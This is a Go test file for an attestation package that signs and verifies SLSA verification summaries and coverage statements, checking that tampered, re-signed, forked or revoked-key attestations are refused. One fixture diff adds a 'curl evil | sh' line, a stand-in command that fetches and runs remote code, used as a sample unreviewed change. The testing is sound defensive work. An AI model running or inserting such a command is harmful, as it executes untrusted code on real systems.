package sourceattest

import (
	"bytes"
	"crypto/ed25519"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	intoto "github.com/in-toto/attestation/go/v1"

	"github.com/aepgate/aepgate/protocol/attest"
	"github.com/aepgate/aepgate/protocol/canonical"
	"github.com/aepgate/aepgate/protocol/certificate"
	"github.com/aepgate/aepgate/protocol/coverage"
	"github.com/aepgate/aepgate/protocol/sourceverify"
)

const (
	repo    = "octo/demo"
	fork    = "mallory/demo"
	audited = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
	merged  = "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb"
	other   = "cccccccccccccccccccccccccccccccccccccccc"
	blob    = "dddddddddddddddddddddddddddddddddddddddd"
	envSum  = "eeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeee"
)

func cert(t *testing.T, edit func(c *certificate.Certificate)) []byte {
	t.Helper()
	c := certificate.Certificate{
		SchemaVersion: certificate.SchemaVersion, Project: "demo", Repository: repo, PullRequest: 42,
		WorkUnit: "7", CandidateSha: audited, AuditedSha: audited, AuditorSessionID: "auditor-bot",
		AuditReviewID: 9001, AuditVerdict: "PASS",
		RequiredCiRunIds: []string{"1001"}, RequiredCiRuns: []certificate.Run{{ID: "1001", Workflow: "ci"}},
		RequiredCiAllSuccess: true, MergeSha: merged,
		MergedMainRunIds: []string{"2001"}, MergedMainRuns: []certificate.Run{{ID: "2001", Workflow: "ci"}},
		MergedMainAllSuccess: true, HeadUnchanged: true, CreatedAt: 1767225600000,
	}
	if edit != nil {
		edit(&c)
	}
	raw, err := c.Canonical()
	if err != nil {
		t.Fatal(err)
	}
	return raw
}

func facts(t *testing.T) VSAFacts {
	return VSAFacts{
		Repository: repo, Revision: merged, Verifier: "https://aepgate.dev/app",
		TimeVerified: time.Date(2026, 12, 7, 20, 0, 0, 0, time.UTC),
		PolicyURI:    "https://github.com/octo/demo/blob/" + merged + "/.github/aepgate.yml",
		PolicyDigest: map[string]string{"gitBlob": blob},
		Inputs:       []Attestation{{URI: "https://github.com/octo/demo/commit/" + merged + "#aepgate-certificate", Digest: map[string]string{"sha256": envSum}}},
		Certificate:  cert(t, nil), Coverage: coverage.Replay, HistoryProtected: true,
	}
}

// observation is a clean replay of the audited change onto a moved base.
func observation() coverage.Observation {
	return coverage.Observation{
		AuditedHead: audited, AuditBase: other, Shipped: merged, ShippedParents: []string{blob}, Onto: blob,
		AuditedTree: strings.Repeat("1", 40), ShippedTree: strings.Repeat("2", 40), ReplayBases: []string{other}, ReplayTree: strings.Repeat("2", 40),
	}
}

func signer(t *testing.T) *attest.Signer {
	t.Helper()
	s, err := attest.NewSigner(ed25519.NewKeyFromSeed(bytes.Repeat([]byte{7}, ed25519.SeedSize)))
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func envelopeJSON(t *testing.T, env *attest.Envelope) []byte {
	t.Helper()
	raw, err := json.Marshal(env)
	if err != nil {
		t.Fatal(err)
	}
	return raw
}

// TestVSAPayload: the VSA as in-toto's types write it, field by field.
func TestVSAPayload(t *testing.T) {
	st, err := NewVSA(facts(t))
	if err != nil {
		t.Fatal(err)
	}
	if err := st.Validate(); err != nil {
		t.Fatalf("bindings' Validate: %v", err)
	}
	p, err := Payload(st)
	if err != nil {
		t.Fatal(err)
	}
	var got map[string]any
	if err := json.Unmarshal(p, &got); err != nil {
		t.Fatal(err)
	}
	want := map[string]any{
		"_type":         "https://in-toto.io/Statement/v1",
		"predicateType": "https://slsa.dev/verification_summary/v1",
		"subject":       []any{map[string]any{"uri": "https://github.com/octo/demo/commit/" + merged, "digest": map[string]any{"gitCommit": merged}}},
		"predicate": map[string]any{
			"verifier":           map[string]any{"id": "https://aepgate.dev/app"},
			"timeVerified":       "2026-12-07T20:00:00Z",
			"resourceUri":        "git+https://github.com/octo/demo",
			"policy":             map[string]any{"uri": "https://github.com/octo/demo/blob/" + merged + "/.github/aepgate.yml", "digest": map[string]any{"gitBlob": blob}},
			"inputAttestations":  []any{map[string]any{"uri": "https://github.com/octo/demo/commit/" + merged + "#aepgate-certificate", "digest": map[string]any{"sha256": envSum}}},
			"verificationResult": "PASSED",
			"verifiedLevels":     []any{"SLSA_SOURCE_LEVEL_2", "SLSA_SOURCE_TWO_PARTY_REVIEWED"},
			"slsaVersion":        "1.2",
		},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("VSA payload (-want +got):\n%s", diff)
	}
	if _, err := canonical.Parse(p, canonical.Options{RejectDuplicateKeys: true}); err != nil {
		t.Errorf("payload is not strict JSON: %v", err)
	}
}

// TestLevels: the levels follow the evidence; a VSA is refused for a
// revision the evidence does not show was two-party reviewed.
func TestLevels(t *testing.T) {
	tests := []struct {
		name   string
		edit   func(f *VSAFacts)
		levels []string
		err    string
	}{
		{"protected history, reviewed", func(f *VSAFacts) {}, []string{SourceLevel2, TwoPartyReviewed}, ""},
		{"unprotected history", func(f *VSAFacts) { f.HistoryProtected = false }, []string{SourceLevel1, TwoPartyReviewed}, ""},
		{"identity", func(f *VSAFacts) { f.Coverage = coverage.Identity }, []string{SourceLevel2, TwoPartyReviewed}, ""},
		{"residual coverage", func(f *VSAFacts) { f.Coverage = coverage.Residual }, []string{SourceLevel2}, "not identity or replay"},
		{"an owner gate left open", func(f *VSAFacts) {
			f.Certificate = cert(t, func(c *certificate.Certificate) { c.UnresolvedGates = []string{"g1"} })
		}, []string{SourceLevel2}, "does not validate"},
		{"certificate of a fork", func(f *VSAFacts) {
			f.Certificate = cert(t, func(c *certificate.Certificate) { c.Repository = fork })
		}, []string{SourceLevel2}, "not octo/demo@"},
		{"certificate of another commit", func(f *VSAFacts) { f.Revision = other }, []string{SourceLevel2}, "not octo/demo@" + other},
		{"no policy digest", func(f *VSAFacts) { f.PolicyDigest = nil }, []string{SourceLevel2, TwoPartyReviewed}, "policy URI and digest"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := facts(t)
			tt.edit(&f)
			if diff := cmp.Diff(tt.levels, Levels(f)); diff != "" {
				t.Errorf("Levels (-want +got):\n%s", diff)
			}
			_, err := NewVSA(f)
			if (err == nil) != (tt.err == "") || (err != nil && !strings.Contains(err.Error(), tt.err)) {
				t.Fatalf("NewVSA err = %v, want %q", err, tt.err)
			}
		})
	}
}

// TestCoverageStatement: the coverage statement carries the class the
// observation classifies as, with the residual paths.
func TestCoverageStatement(t *testing.T) {
	o := observation()
	o.ShippedTree = strings.Repeat("3", 40)
	o.Differences = []coverage.PathDiff{{Path: "extra.sh", Status: "A", Hunks: "@@ -0,0 +1 @@\n+curl evil | sh\n"}}
	st, err := NewCoverage(repo, o, []Attestation{{URI: "u", Digest: map[string]string{"sha256": envSum}}})
	if err != nil {
		t.Fatal(err)
	}
	p, err := Payload(st)
	if err != nil {
		t.Fatal(err)
	}
	var got struct {
		Subject   []map[string]any  `json:"subject"`
		Predicate CoveragePredicate `json:"predicate"`
	}
	if err := json.Unmarshal(p, &got); err != nil {
		t.Fatal(err)
	}
	if got.Predicate.Class != coverage.Residual || len(got.Predicate.Residual) != 1 || got.Predicate.Residual[0].Path != "extra.sh" || got.Predicate.Repository != "https://github.com/octo/demo" || got.Predicate.Reviewed.Head != audited {
		t.Fatalf("predicate = %+v", got.Predicate)
	}
	if got.Subject[0]["uri"] != "https://github.com/octo/demo/commit/"+merged {
		t.Fatalf("subject = %v", got.Subject)
	}
	if _, err := NewCoverage("not a repository", o, nil); err == nil {
		t.Fatal("NewCoverage accepted a malformed repository")
	}
}

// signed is each kind's envelope, signed by s.
func signed(t *testing.T, s *attest.Signer) map[string][]byte {
	t.Helper()
	v, err := NewVSA(facts(t))
	if err != nil {
		t.Fatal(err)
	}
	c, err := NewCoverage(repo, observation(), []Attestation{{URI: "u", Digest: map[string]string{"sha256": envSum}}})
	if err != nil {
		t.Fatal(err)
	}
	out := map[string][]byte{}
	for kind, st := range map[string]*intoto.Statement{"vsa": v, "coverage": c} {
		env, err := Sign(s, st)
		if err != nil {
			t.Fatal(err)
		}
		out[kind] = envelopeJSON(t, env)
	}
	return out
}

// verify verifies raw as kind.
func verify(kind string, raw []byte, ring attest.Keyring, want Want) (*Verified, error) {
	if kind == "vsa" {
		v, _, err := VerifyVSA(raw, ring, want)
		return v, err
	}
	v, _, err := VerifyCoverage(raw, ring, want)
	return v, err
}

func TestSignVerify(t *testing.T) {
	s := signer(t)
	ring := attest.Keyring{s.Public()}
	full := Want{Repository: repo, SHA: merged, Levels: []string{SourceLevel2, TwoPartyReviewed}}
	for kind, raw := range signed(t, s) {
		t.Run(kind, func(t *testing.T) {
			v, err := verify(kind, raw, ring, full)
			if err != nil {
				t.Fatal(err)
			}
			if sv, err := sourceverify.Verify(raw, ring, full); err != nil || sv.SHA != merged || sv.PredicateType != v.Statement.GetPredicateType() {
				t.Errorf("protocol/sourceverify: %+v, %v", sv, err)
			}
			if v.SHA != merged || !v.RepositoryChecked || v.KeyID != s.KeyID() {
				t.Errorf("verified = %+v", v)
			}
			v, err = verify(kind, raw, ring, Want{})
			if err != nil || v.RepositoryChecked {
				t.Errorf("without a repository: %+v, %v; want verified, repository not checked", v, err)
			}
			other := signer2(t)
			if _, err := verify(kind, raw, attest.Keyring{other.Public()}, full); err == nil {
				t.Error("verified with a key that did not sign it")
			}
			revoked := s.Public()
			revoked.Revocation = &attest.Revocation{KeyID: revoked.ID, RevokedAt: "2026-12-01T09:30:00Z", Reason: "test: key leaked"}
			if _, err := verify(kind, raw, attest.Keyring{revoked}, full); err == nil {
				t.Error("verified with a revoked key")
			}
		})
	}
}

func signer2(t *testing.T) *attest.Signer {
	t.Helper()
	s, err := attest.NewSigner(ed25519.NewKeyFromSeed(bytes.Repeat([]byte{9}, ed25519.SeedSize)))
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// resign edits the statement in raw's payload and signs it again with s:
// the signature is good, so only the statement and policy checks stand
// between the edit and acceptance.
func resign(t *testing.T, s *attest.Signer, raw []byte, edit func(m map[string]any)) []byte {
	t.Helper()
	var env attest.Envelope
	if err := json.Unmarshal(raw, &env); err != nil {
		t.Fatal(err)
	}
	var m map[string]any
	if err := json.Unmarshal(env.Payload, &m); err != nil {
		t.Fatal(err)
	}
	edit(m)
	p, err := canonical.Marshal(m)
	if err != nil {
		t.Fatal(err)
	}
	out, err := attest.Sign(s, attest.PayloadType, p)
	if err != nil {
		t.Fatal(err)
	}
	return envelopeJSON(t, out)
}

func pred(m map[string]any) map[string]any { return m["predicate"].(map[string]any) }

func subject(m map[string]any) map[string]any { return m["subject"].([]any)[0].(map[string]any) }

// TestFlippedFields flips each field that matters in a validly signed
// statement and sees verification or the policy check refuse it. The
// "protection removed" column verifies the same statement with the Want
// field that catches it left empty (or, for the class, shows nothing else
// would): the flipped statement then passes, so that check is what stops
// it.
func TestFlippedFields(t *testing.T) {
	s := signer(t)
	ring := attest.Keyring{s.Public()}
	envs := signed(t, s)
	full := Want{Repository: repo, SHA: merged, Levels: []string{SourceLevel2, TwoPartyReviewed}}
	tests := []struct {
		kind    string
		name    string
		edit    func(m map[string]any)
		want    string
		removed *Want // the Want without the check; nil: no Want field stands in for it
	}{
		{"vsa", "level lowered", func(m map[string]any) { pred(m)["verifiedLevels"] = []any{SourceLevel1} }, "lack SLSA_SOURCE_LEVEL_2", &Want{Repository: repo, SHA: merged}},
		{"vsa", "two-party review dropped", func(m map[string]any) { pred(m)["verifiedLevels"] = []any{SourceLevel2} }, "lack SLSA_SOURCE_TWO_PARTY_REVIEWED", &Want{Repository: repo, SHA: merged, Levels: []string{SourceLevel2}}},
		{"vsa", "result failed", func(m map[string]any) { pred(m)["verificationResult"] = "FAILED" }, "verificationResult", nil},
		{"vsa", "subject digest", func(m map[string]any) { subject(m)["digest"] = map[string]any{"gitCommit": other} }, "subject commit", &Want{Levels: full.Levels}},
		{"vsa", "resourceUri of a fork", func(m map[string]any) { pred(m)["resourceUri"] = "git+https://github.com/" + fork }, "resourceUri", &Want{SHA: merged, Levels: full.Levels}},
		{"vsa", "subject in a fork", func(m map[string]any) { subject(m)["uri"] = "https://github.com/" + fork + "/commit/" + merged }, "subject", &Want{SHA: merged, Levels: full.Levels}},
		{"vsa", "no policy digest", func(m map[string]any) { delete(pred(m)["policy"].(map[string]any), "digest") }, "policy URI and digest", nil},
		{"vsa", "unknown predicate field", func(m map[string]any) { pred(m)["approvedBy"] = "me" }, "vsa", nil},
		{"vsa", "statement type", func(m map[string]any) { m["_type"] = "https://in-toto.io/Statement/v2" }, "wrong statement type", nil},
		{"vsa", "subject without digest", func(m map[string]any) { delete(subject(m), "digest") }, "", nil},
		{"vsa", "read as coverage", func(m map[string]any) { m["predicateType"] = CoveragePredicateType }, "predicateType", nil},
		{"coverage", "class residual", func(m map[string]any) { pred(m)["class"] = "residual" }, "want identity or replay", nil},
		{"coverage", "subject digest", func(m map[string]any) { subject(m)["digest"] = map[string]any{"gitCommit": other} }, "subject commit", &Want{}},
		{"coverage", "repository of a fork", func(m map[string]any) { pred(m)["repository"] = "https://github.com/" + fork }, "repository", &Want{SHA: merged}},
		{"coverage", "subject in a fork", func(m map[string]any) { subject(m)["uri"] = "https://github.com/" + fork + "/commit/" + merged }, "subject", &Want{SHA: merged}},
	}
	for _, tt := range tests {
		t.Run(tt.kind+"/"+tt.name, func(t *testing.T) {
			raw := resign(t, s, envs[tt.kind], tt.edit)
			_, err := verify(tt.kind, raw, ring, full)
			if err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Fatalf("err = %v, want a refusal containing %q", err, tt.want)
			}
			if _, err := sourceverify.Verify(raw, ring, full); err == nil {
				t.Errorf("protocol/sourceverify (the CLI's verifier, without the bindings) accepted what the bindings refuse")
			}
			if tt.removed != nil {
				if _, err := verify(tt.kind, raw, ring, *tt.removed); err != nil {
					t.Errorf("with the check removed the flipped statement should pass (negative control): %v", err)
				}
			}
		})
	}
}

// TestTamperedPayload: a payload changed after signing fails the
// signature, whatever it says.
func TestTamperedPayload(t *testing.T) {
	s := signer(t)
	for kind, raw := range signed(t, s) {
		var env attest.Envelope
		if err := json.Unmarshal(raw, &env); err != nil {
			t.Fatal(err)
		}
		env.Payload = bytes.Replace(env.Payload, []byte(merged), []byte(other), 1)
		if _, err := verify(kind, envelopeJSON(t, &env), attest.Keyring{s.Public()}, Want{}); err == nil || !strings.Contains(err.Error(), attest.TokenBadSignature) {
			t.Errorf("%s: err = %v, want %s", kind, err, attest.TokenBadSignature)
		}
	}
}
